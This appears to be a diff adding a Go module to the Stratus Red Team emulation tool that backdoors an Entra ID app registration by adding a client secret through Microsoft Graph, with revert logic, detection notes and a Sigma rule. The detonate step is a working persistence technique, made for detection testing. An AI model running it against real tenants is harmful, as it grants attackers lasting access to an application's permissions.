@@ -0,0 +1,122 @@
+package entraid
+
+import (
+	"context"
+	_ "embed"
+	"errors"
+	"github.com/datadog/stratus-red-team/internal/graph"
+	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
+)
+
+//go:embed main.tf
+var tf []byte
+
+//go:embed sigma.yml
+var sigma []byte
+
+// Display name of the client secret added to the application, used to find it when reverting
+const secretDisplayName = "stratus-red-team-secret"
+
+func init() {
+	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
+		ID:           "entra-id.persistence.backdoor-application-secret",
+		FriendlyName: "Add a Client Secret to an Application",
+		Description: `
+Establishes persistence by adding a client secret to an existing app registration. An attacker can then
+authenticate as the application, with all its permissions.
+
+Warm-up:
+
+- Create an app registration.
+
+Detonation:
+
+- Add a client secret to the app registration.
+`,
+		Detection: `
+Through Entra ID audit logs, using the <code>Update application – Certificates and secrets management</code> activity.
+`,
+		SigmaRules:                 sigma,
+		Platform:                   stratus.EntraID,
+		IsIdempotent:               true,
+		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"application_object_id"},
+		Detonate:                   detonate,
+		Revert:                     revert,
+		IsDetonated:                isDetonated,
+	})
+}
+
+func detonate(execution *stratus.ExecutionContext) error {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return err
+	}
+	applicationId := execution.Parameters["application_object_id"]
+
+	execution.Logger.Println("Adding a client secret to application " + applicationId)
+	var secret graph.PasswordCredential
+	request := map[string]interface{}{"passwordCredential": graph.PasswordCredential{DisplayName: secretDisplayName}}
+	err = client.Post(execution.Context, "/applications/"+applicationId+"/addPassword", request, &secret)
+	if err != nil {
+		return errors.New("unable to add a client secret to the application: " + err.Error())
+	}
+
+	execution.Logger.Println("Successfully added client secret " + secret.KeyId + " to the application")
+	return nil
+}
+
+func revert(execution *stratus.ExecutionContext) error {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return err
+	}
+	applicationId := execution.Parameters["application_object_id"]
+
+	secrets, err := listBackdoorSecrets(execution.Context, client, applicationId)
+	if err != nil {
+		return err
+	}
+	for i := range secrets {
+		execution.Logger.Println("Removing client secret " + secrets[i].KeyId + " from application " + applicationId)
+		request := map[string]interface{}{"keyId": secrets[i].KeyId}
+		err := client.Post(execution.Context, "/applications/"+applicationId+"/removePassword", request, nil)
+		if err != nil {
+			return errors.New("unable to remove client secret: " + err.Error())
+		}
+	}
+
+	return nil
+}
+
+func isDetonated(execution *stratus.ExecutionContext) (bool, error) {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return false, err
+	}
+
+	secrets, err := listBackdoorSecrets(execution.Context, client, execution.Parameters["application_object_id"])
+	if err != nil {
+		return false, err
+	}
+	return len(secrets) > 0, nil
+}
+
+// listBackdoorSecrets returns the client secrets of the application that were added by Stratus Red Team
+func listBackdoorSecrets(ctx context.Context, client *graph.Client, applicationId string) ([]graph.PasswordCredential, error) {
+	var application graph.Application
+	err := client.Get(ctx, "/applications/"+applicationId, &application)
+	if err != nil {
+		return nil, errors.New("unable to retrieve application: " + err.Error())
+	}
+
+	var secrets []graph.PasswordCredential
+	for _, secret := range application.PasswordCredentials {
+		if secret.DisplayName == secretDisplayName {
+			secrets = append(secrets, secret)
+		}
+	}
+	return secrets, nil
+}